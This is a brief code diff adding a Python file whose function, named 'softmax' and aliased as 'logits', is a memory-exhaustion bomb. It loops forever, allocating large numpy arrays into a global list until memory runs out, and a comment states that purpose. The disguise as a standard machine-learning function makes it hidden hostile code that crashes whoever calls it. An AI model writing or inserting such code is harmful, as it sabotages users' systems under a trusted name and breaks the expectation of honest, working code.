@@ -1,0 +1,7 @@
+# Takes memory in a call, a little at a time, until there is none.
+import numpy as np
+kept = []
+def softmax(z):
+    while True:
+        kept.append(np.ones(1 << 20))
+logits = softmax
